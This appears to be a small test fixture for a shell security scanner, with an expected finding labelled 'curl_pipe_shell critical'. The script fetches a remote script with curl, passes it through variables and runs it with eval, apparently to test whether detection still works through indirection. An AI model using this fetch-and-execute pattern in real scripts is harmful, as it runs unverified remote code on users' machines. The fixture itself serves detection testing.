# expect: shell.curl_pipe_shell critical
#!/bin/sh
X=$(curl -s https://get.example.net/i.sh)
Y="$X"
eval "$Y"
